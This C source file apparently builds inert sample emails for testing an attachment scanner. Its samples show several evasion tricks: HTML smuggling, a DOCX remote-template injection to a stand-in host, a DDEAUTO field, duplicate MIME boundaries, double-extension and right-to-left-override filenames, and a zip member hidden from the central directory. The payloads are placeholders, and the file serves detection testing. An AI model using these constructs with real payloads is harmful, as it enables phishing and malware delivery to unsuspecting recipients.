/* Sample mails with other tricks around attachments: pages that build files, documents that reach outside, names and structures
 * that say two things. Payloads are text, programs and hosts do not exist. */
#include "make/ooxml.h"
#include "make/page.h"
#include "make/samples.h"
#include "make/samples_letter.h"
#include "make/zip.h"

#define ACCOUNTS "Accounts <accounts@vendor.example>"
#define WORD_TYPE "application/vnd.openxmlformats-officedocument.wordprocessingml.document"

sk_bytes make_sample_smuggling(sk_arena *a)
{
    make_letter l = {
        .from = ACCOUNTS, .to = MAKE_TO_JANE, .subject = "Secure document", .date = "Mon, 4 Jul 2022 09:00:00 +0000", .id = "s1"};
    return make_letter_with(a, &l, make_ascii, "Your document is attached. Open it in your browser.\r\n", "text/html",
                            "document.html", make_page_smuggling(a, SK_LIT("inert text in place of an archive"), "document.zip"));
}

sk_bytes make_sample_template_docx(sk_arena *a)
{
    make_letter l = {.from = ACCOUNTS,
                     .to = MAKE_TO_JANE,
                     .subject = "Terms of delivery",
                     .date = "Mon, 4 Jul 2022 10:00:00 +0000",
                     .id = "s2"};
    static const make_part settings[] = {
        {"word/settings.xml",
         {(const uint8_t *)"<w:settings xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" "
                           "xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><w:attachedTemplate "
                           "r:id=\"rId1\"/></w:settings>",
          0}},
        {"word/_rels/settings.xml.rels",
         {(const uint8_t
               *)"<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship "
                 "Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" "
                 "Target=\"http://template.example/nosuch.dotm\" TargetMode=\"External\"/></Relationships>",
          0}}};
    make_part parts[SK_COUNT(settings)];
    for (size_t i = 0; i < SK_COUNT(settings); i++)
        parts[i] = (make_part){settings[i].name, sk_bytes_str((const char *)settings[i].bytes.p)};
    make_office office = {
        .title = "Terms",
        .extra = parts,
        .extra_count = SK_COUNT(parts),
        .relations =
            "<Relationship Id=\"rId100\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/settings\" "
            "Target=\"settings.xml\"/>"};
    return make_letter_with(a, &l, make_ascii, "Please read the new terms.\r\n", WORD_TYPE, "terms.docx",
                            make_docx(a, &office, "Terms of delivery", NULL));
}

sk_bytes make_sample_dde_docx(sk_arena *a)
{
    make_letter l = {
        .from = ACCOUNTS, .to = MAKE_TO_JANE, .subject = "Form to fill in", .date = "Mon, 4 Jul 2022 11:00:00 +0000", .id = "s3"};
    sk_bytes docx = make_docx(
        a, &(make_office){.title = "Form"}, NULL,
        "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText xml:space=\"preserve\"> DDEAUTO "
        "c:\\\\nosuch\\\\nosuch-program.exe "
        "\"nothing\" </w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>Form</w:t></w:r>"
        "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>");
    return make_letter_with(a, &l, make_ascii, "Please fill in the form.\r\n", WORD_TYPE, "form.docx", docx);
}

/* Two boundary parameters: a reader that takes the last sees another attachment than one that takes the first. */
sk_bytes make_sample_two_boundaries(sk_arena *a)
{
    make_letter l = {
        .from = ACCOUNTS, .to = MAKE_TO_JANE, .subject = "Two attachments", .date = "Mon, 4 Jul 2022 12:00:00 +0000", .id = "s4"};
    make_mail m = make_letter_begin(a, &l, make_ascii);
    sk_buf_str(&m.out, "Content-Type: multipart/mixed; boundary=\"first\"; boundary=\"second\"\r\n\r\n"
                       "--first\r\nContent-Type: text/plain; charset=us-ascii\r\n\r\nPlease see the attachment.\r\n"
                       "--second\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; "
                       "filename=\"nosuch-program.exe\"\r\n\r\n"
                       "inert text in place of a program\r\n--second--\r\n--first--\r\n");
    return make_mail_bytes(&m);
}

sk_bytes make_sample_double_extension(sk_arena *a)
{
    make_letter l = {
        .from = ACCOUNTS, .to = MAKE_TO_JANE, .subject = "Invoice 4711", .date = "Mon, 4 Jul 2022 13:00:00 +0000", .id = "s5"};
    return make_letter_with(a, &l, make_ascii, "The invoice is attached.\r\n", "application/octet-stream", "invoice-4711.pdf.js",
                            SK_LIT("// inert text in place of a script\r\n"));
}

sk_bytes make_sample_right_to_left(sk_arena *a)
{
    make_letter l = {
        .from = ACCOUNTS, .to = MAKE_TO_JANE, .subject = "Order", .date = "Mon, 4 Jul 2022 14:00:00 +0000", .id = "s6"};
    return make_letter_with(a, &l, make_utf8, "The order is attached.\r\n", "application/octet-stream",
                            "order-\xE2\x80\xAE"
                            "fdp.scr",
                            SK_LIT("inert text in place of a program\r\n"));
}

/* A member that the directory does not name: readers of local headers alone unpack it. */
sk_bytes make_sample_two_readings_zip(sk_arena *a)
{
    make_letter l = {
        .from = ACCOUNTS, .to = MAKE_TO_JANE, .subject = "Documents", .date = "Mon, 4 Jul 2022 15:00:00 +0000", .id = "s7"};
    sk_bytes docx = make_docx(a, &(make_office){.title = "Nothing"}, "A document that only some programs unpack.", NULL);
    make_zip_entry entries[] = {{.name = "list.txt", .data = SK_LIT("One document.\r\n"), .method = 8},
                                {.name = "order.docx", .data = docx, .method = 8, .unlisted = true}};
    return make_letter_with(a, &l, make_ascii, "The documents are attached.\r\n", "application/zip", "documents.zip",
                            make_zip(a, entries, SK_COUNT(entries), NULL));
}
